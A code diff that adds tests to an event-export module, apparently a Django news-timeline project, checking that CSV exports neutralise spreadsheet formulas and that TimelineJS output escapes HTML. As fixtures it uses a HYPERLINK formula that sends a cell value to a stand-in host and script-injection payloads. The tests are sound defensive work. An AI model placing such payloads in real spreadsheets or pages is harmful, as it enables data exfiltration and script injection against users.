@@ -69,3 +69,50 @@ def test_timelinejs_omits_unknown_parts(events):
     assert starts[1] == {"year": 2023, "month": 3}
     assert starts[3] == {"year": 2023, "month": 4, "day": 6}
     assert data["events"][2]["end_date"] == {"year": 2023, "month": 3, "day": 4}
+
+
+@pytest.mark.parametrize("title", [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+])
+def test_csv_neutralises_formulas(db, title):
+    """OWASP's CSV-injection advice: a cell a spreadsheet would run as a
+    formula is prefixed with a single quote; every text column is covered."""
+    article = Article.objects.create(title=title, source=title, published=D(2023, 4, 6), text=f"{title} on Monday.")
+    event = Event.objects.create(title=title, summary=title, place=title, date=D(2023, 4, 3))
+    event.actors.add(Actor.objects.create(name=title))
+    Mention.objects.create(event=event, article=article, sentence=title, cue=title,
+                           sentence_start=0, sentence_end=len(title), cue_start=0, cue_end=len(title))
+    rows = list(csv.reader(io.StringIO("".join(exports.csv_chunks(Event.objects.with_related())))))
+    for cell in rows[1]:
+        assert not cell.startswith(exports.FORMULA_STARTS), rows[1]
+    record = dict(zip(rows[0], rows[1], strict=True))
+    for column in ["title", "summary", "place", "actors", "sources", "sentences", "cues"]:
+        assert record[column] == "'" + title, column
+
+
+def test_csv_leaves_ordinary_text_alone(events):
+    rows = list(csv.DictReader(io.StringIO("".join(exports.csv_chunks(events)))))
+    assert [r["title"] for r in rows] == ["Programme", "Month of launches", "Drills", "Missile launch"]
+
+
+def test_timelinejs_escapes_html(db):
+    category = Category.objects.create(name="<i>Talks</i>", slug="talks-html")
+    Event.objects.create(title='<img src=x onerror="alert(1)">', summary="<script>alert(2)</script>",
+                         date=D(2023, 4, 3), category=category)
+    data = json.loads("".join(exports.timelinejs_chunks(Event.objects.with_related(), title="<b>Mine</b>")))
+    item = data["events"][0]
+    assert item["text"]["headline"] == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"
+    assert item["text"]["text"] == "&lt;script&gt;alert(2)&lt;/script&gt;"
+    assert item["group"] == "&lt;i&gt;Talks&lt;/i&gt;"
+    assert data["title"]["text"]["headline"] == "&lt;b&gt;Mine&lt;/b&gt;"
+    assert "<" not in json.dumps(data)
+
+
+def test_timelinejs_escapes_citations(db):
+    article = Article.objects.create(title="<b>Wire</b>", published=D(2023, 4, 6), text="<b>Talks</b> on Monday.")
+    event = Event.objects.create(title="Talks", date=D(2023, 4, 3))
+    Mention.objects.create(event=event, article=article, sentence=article.text, cue="on Monday",
+                           sentence_start=0, sentence_end=len(article.text), cue_start=13, cue_end=22)
+    data = json.loads("".join(exports.timelinejs_chunks(Event.objects.with_related())))
+    assert "<b>" not in data["events"][0]["text"]["text"]
+    assert "&lt;b&gt;Talks&lt;/b&gt;" in data["events"][0]["text"]["text"]
